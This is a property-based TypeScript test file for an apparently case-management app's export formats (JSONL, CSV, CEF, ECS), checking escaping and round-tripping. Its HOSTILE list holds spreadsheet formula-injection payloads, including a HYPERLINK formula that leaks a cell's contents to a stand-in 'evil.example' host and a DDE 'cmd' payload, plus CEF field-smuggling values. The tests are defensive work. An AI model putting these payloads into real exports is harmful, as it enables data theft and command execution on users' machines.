import assert from 'node:assert/strict';
import fc from 'fast-check';
import type { ChainedEntry } from '../../src/casework/ports/ledger-stream.ts';
import { codes } from '../../src/cards/locales/en/ledger.ts';
import { FORMATS, writingAs, type Format } from '../../src/export/formats.ts';
import { meaningOf } from '../../src/export/meanings.ts';
import { rounds, SAMPLE_SEED } from '../lane.ts';
import { lena, morning, tess } from '../ledger/fixtures.ts';
import { againstEcs } from './ecs-fields.ts';
import { parseCef, parseCsv, rowsOfCsv } from './parsers.ts';

const nameOf = (code: string): string => (codes as Record<string, string>)[code] ?? code;

function written(format: Format, entries: readonly ChainedEntry[], byteOrderMark = false): string {
  const writing = writingAs(format, { nameOf, version: '1.2.3', byteOrderMark });
  return writing.start + entries.map((entry) => writing.line(entry)).join('');
}

function entryWith(over: Partial<ChainedEntry> = {}): ChainedEntry {
  return {
    origin: 'hardline/00000000-0000-4000-8000-000000000001',
    seq: 12,
    at: morning,
    code: 'case.opened',
    actor: tess,
    about: lena,
    caseId: 3 as ChainedEntry['caseId'],
    intentId: null,
    detail: { remark: 'as she stood there' },
    hash: 'ab'.repeat(32),
    ...over,
  };
}

/** What people type to break a format. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '＝1',
  "'=1",
  'a|b\\|c=d\\=e',
  'first\nsecond\r\nthird',
  ' suid=00000000-0000-4000-8000-00000000dead duid=nobody ',
  '"quoted", and a comma',
  '\\',
  '\u2028\u2029\u0000\u0007',
  '🔑 Schlüssel',
  'CEF:0|Hardline|Hardline|1|case.opened|x|10|',
];

describe('the formats of an export', () => {
  const remarks = fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ unit: 'grapheme' }), fc.string({ unit: 'binary' }));
  const anyEntry = fc
    .record({
      code: fc.constantFrom(...Object.keys(codes), 'newer.code'),
      actor: fc.constantFrom(tess, 'hardline' as const),
      about: fc.constantFrom(lena, null),
      caseId: fc.constantFrom(3 as ChainedEntry['caseId'], null),
      // Any printable character may be in it.
      intentId: fc.option(fc.stringMatching(/^[\x21-\x7e]{1,100}$/)),
      detail: fc.option(
        fc.record({ remark: remarks, list: fc.array(remarks), count: fc.integer(), yes: fc.boolean() }),
      ),
    })
    .map((over) => entryWith(over));
  const check = (property: fc.IPropertyWithHooks<[ChainedEntry]>): void => {
    fc.assert(property, { numRuns: rounds({ quick: 300, full: 5000 }), seed: SAMPLE_SEED });
  };

  it('JSON lines: one line an entry, which reads back as the entry', () => {
    check(
      fc.property(anyEntry, (entry) => {
        const text = written('jsonl', [entry]);
        assert.equal(text.indexOf('\n'), text.length - 1);
        const { id, seq, code, actor, about, intent, detail, erased } = JSON.parse(text) as Record<string, unknown>;
        assert.deepEqual(
          { id, seq, code, actor, about, intent, detail, erased },
          {
            id: `${entry.origin}/12`,
            seq: 12,
            code: entry.code,
            actor: entry.actor,
            about: entry.about,
            intent: entry.intentId,
            detail: JSON.parse(JSON.stringify(entry.detail)) as unknown,
            erased: entry.detail === null,
          },
        );
      }),
    );
  });

  it('CSV: follows RFC 4180, reads back as the entry, and holds no formula', () => {
    check(
      fc.property(anyEntry, (entry) => {
        const [row, ...more] = rowsOfCsv(written('csv', [entry]));
        assert.deepEqual(more, []);
        assert.equal(row!['code'], entry.code);
        assert.equal(row!['intent'], entry.intentId ?? '');
        assert.equal(row!['detail'], entry.detail === null ? '' : JSON.stringify(entry.detail));
        assert.equal(row!['erased'], entry.detail === null ? 'yes' : 'no');
      }),
    );
  });

  it('CSV: an intent that begins like a formula gets an apostrophe, and one that begins with an apostrophe keeps it', () => {
    for (const intentId of ['=1+1', '+1', '-1', '@x', "'=1"]) {
      const text = written('csv', [entryWith({ intentId })]);
      assert.equal(parseCsv(text)[1]![6], `'${intentId}`);
      assert.equal(rowsOfCsv(text)[0]!['intent'], intentId);
    }
  });

  it('CSV begins with a byte order mark only when that is asked for', () => {
    assert.equal(written('csv', [], true).charCodeAt(0), 0xfeff);
    assert.equal(written('csv', []).slice(0, 4), 'seq,');
  });

  it('CEF: the header and the extension are escaped as CEF asks, and read back as the entry', () => {
    check(
      fc.property(anyEntry, (entry) => {
        const text = written('cef', [entry]);
        assert.match(text, /^[^\r\n]*\n$/, 'one line');
        const { header, extension } = parseCef(text.slice(0, -1));
        const name = nameOf(entry.code);
        assert.deepEqual(header.slice(0, 5), ['Hardline', 'Hardline', '1.2.3', entry.code, name]);
        assert.equal(extension['externalId'], '12');
        assert.equal(extension['suid'] ?? extension['suser'], entry.actor);
        assert.equal(extension['duid'], entry.about ?? undefined);
        assert.equal(extension['cs1'], entry.intentId ?? undefined);
        const detail = entry.detail === null ? undefined : JSON.stringify(entry.detail);
        const state = detail === undefined ? 'erased' : detail.length > 4000 ? 'cut' : 'whole';
        assert.equal(extension['cs3'], state);
        assert.equal(extension['cs2'], detail?.slice(0, 4000));
      }),
    );
  });

  it('CEF: a name with a pipe, a backslash or a line break in it stays one field of the header', () => {
    const writing = writingAs('cef', { nameOf: () => 'a|b\\c\nd', version: '1', byteOrderMark: false });
    assert.equal(parseCef(writing.line(entryWith()).slice(0, -1)).header[4], 'a|b\\c d');
  });

  it('ECS: every document has only fields of ECS, with the types and values that ECS allows', () => {
    check(
      fc.property(anyEntry, (entry) => {
        const document = JSON.parse(written('ecs', [entry])) as {
          event: { id: string };
          hardline: { detail?: string };
        };
        assert.deepEqual(againstEcs(document), []);
        assert.equal(document.event.id, `${entry.origin}/12`);
        assert.equal(document.hardline.detail, entry.detail === null ? undefined : JSON.stringify(entry.detail));
      }),
    );
  });

  it('ECS: a document that does not fit would be found out', () => {
    const good = JSON.parse(written('ecs', [entryWith()])) as Record<string, Record<string, unknown>>;
    const bad = [
      { ...good, event: { ...good['event'], type: ['denied'] } },
      { ...good, event: { ...good['event'], category: 'iam' } },
      { ...good, event: { ...good['event'], outcome: 'fine' } },
      { ...good, event: { ...good['event'], sequence: '12' } },
      { ...good, labels: { count: 3 } },
      { ...good, technician: 'tess' },
    ];
    for (const document of bad) assert.notDeepEqual(againstEcs(document), [], JSON.stringify(document));
  });

  it('an erased detail is said to be erased in every format', () => {
    const erased = [entryWith({ detail: null })];
    const marks: Readonly<Record<Format, RegExp>> = {
      jsonl: /"detail":null,"erased":true/,
      csv: /,,yes,/,
      cef: /cs3Label=detailState cs3=erased/,
      ecs: /"erased":true/,
    };
    for (const format of FORMATS) assert.match(written(format, erased), marks[format], format);
  });

  it('how it ended is read from the detail where only that tells, and is unknown once that was erased', () => {
    const outcomeOf = (code: string, detail: ChainedEntry['detail']) => meaningOf({ code, detail }).outcome;
    assert.equal(outcomeOf('pass.create.outcome', { outcome: 'created' }), 'success');
    assert.equal(outcomeOf('pass.create.outcome', { outcome: 'refused: no plan' }), 'failure');
    assert.equal(outcomeOf('pass.create.outcome', { outcome: 'unanswered: no answer' }), 'unknown');
    assert.equal(outcomeOf('alarm.leads.outcome', { outcome: 'reached 2 of 3' }), 'success');
    assert.equal(outcomeOf('alarm.leads.outcome', { outcome: 'reached 0 of 3' }), 'failure');
    assert.equal(outcomeOf('snapshot.read.outcome', { unread: [] }), 'success');
    assert.equal(outcomeOf('snapshot.read.outcome', { unread: ['risk'] }), 'failure');
    assert.equal(outcomeOf('pass.create.outcome', null), 'unknown');
    assert.equal(outcomeOf('newer.code', {}), 'unknown');
  });
});
